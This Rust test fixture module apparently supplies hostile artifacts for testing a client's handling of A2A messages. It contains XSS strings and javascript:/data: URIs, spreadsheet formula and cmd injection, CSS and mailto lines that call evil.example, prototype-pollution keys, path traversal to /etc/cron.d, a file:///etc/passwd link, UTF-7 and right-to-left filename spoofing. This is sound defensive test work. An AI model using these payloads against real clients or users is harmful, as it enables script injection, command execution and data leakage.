//! Hostile content, which would run scripts, mislead the person or break a client.
//!
//! Scripts in it call `window.pwned(…)` or an address at `evil.example`, so that a test notices them.

use a2a::message::{FileSource, Part};
use serde_json::{Map, Value, json};

use super::{ArtifactContent, inline, markdown};

/// Markdown with hostile links, HTML and pictures.
pub(super) const MARKDOWN: &str = include_str!("assets/hostile.md");

/// Artifacts that attack a client, one for each kind of attack; their data parts have the media type `mode`.
pub(super) fn artifacts(mode: &str) -> Vec<ArtifactContent> {
    vec![
        (
            "markdown",
            "<b onmouseover=window.pwned('name')>Markdown</b>",
            vec![markdown(MARKDOWN)],
        ),
        ("data", "Data", vec![Part::data(data(), mode)]),
        ("files", "Files", files()),
        (
            "deep",
            "Deep and wide",
            vec![Part::data(deep(), mode), Part::data(wide(), mode)],
        ),
        (
            "text",
            "Text",
            vec![
                Part::text(
                    "\u{202e}gnp.elif a ton\u{202c} \u{2066}\u{200b}\u{200d}\u{feff} \u{0} \u{1b}[31m red?",
                ),
                Part::text("x".repeat(10_000)),
            ],
        ),
    ]
}

fn data() -> Value {
    json!({
        "week": "<script>window.pwned('week')</script>",
        "keeper": "a@example.com?bcc=everybody@evil.example&body=<script>",
        "map": "javascript:window.pwned('map')",
        "coverage": 1e300,
        "stations": [
            { "name": "=HYPERLINK(\"https://evil.example/\"&A1)", "celsius": 1, "colour": "url(https://evil.example/colour)", "seen": "\"><img src=x onerror=window.pwned('seen')>" },
            { "name": "@SUM(1+1)*cmd|' /C calc'!A0", "celsius": -1, "colour": "red;background:url(https://evil.example/css)", "state": "<img src=x onerror=window.pwned('state')>" }
        ],
        "__proto__": { "polluted": true },
        "constructor": { "prototype": { "polluted": true } },
        "toString": "not a function",
        "\u{202e}emaN": "a name from right to left",
        "": "no name"
    })
}

fn files() -> Vec<Part> {
    let bytes =
        |name, media_type, bytes: &str| Part::file(name, media_type, inline(bytes.as_bytes()));
    let elsewhere =
        |name, address: &str| Part::file(name, "image/png", FileSource::Uri(address.to_owned()));
    vec![
        bytes(
            "picture.svg",
            "image/svg+xml",
            include_str!("assets/hostile.svg"),
        ),
        bytes(
            "page.html",
            "text/html",
            include_str!("assets/hostile.html"),
        ),
        bytes(
            "../../../etc/cron.d/\u{202e}gnp.exe",
            "application/octet-stream",
            "MZ",
        ),
        bytes(
            "CON<script>.txt\u{0}.html",
            "text/html;charset=utf-7",
            "+ADw-script+AD4-window.pwned(12)+ADw-/script+AD4-",
        ),
        Part::file(
            "broken.png",
            "image/png",
            FileSource::Bytes("not base64 !!! <script>".to_owned()),
        ),
        Part::file(
            "large.bin",
            "image/png",
            FileSource::Bytes("QUJD".repeat(500_000)),
        ),
        elsewhere("far.png", "https://evil.example/far.png"),
        elsewhere("run.png", "javascript:window.pwned('uri')"),
        elsewhere(
            "data.png",
            "data:text/html,<script>opener.pwned('data')</script>",
        ),
        elsewhere("local.png", "file:///etc/passwd"),
    ]
}

/// A value with the deepest nesting that other JSON readers still accept.
fn deep() -> Value {
    (0..100).fold(json!("the bottom"), |inner, level| {
        if level % 2 == 0 {
            json!({ "in": inner })
        } else {
            json!([inner])
        }
    })
}

fn wide() -> Value {
    let members = (0..2_000).map(|at| (format!("key{at:05}"), json!(at)));
    Value::Object(members.collect::<Map<_, _>>())
}
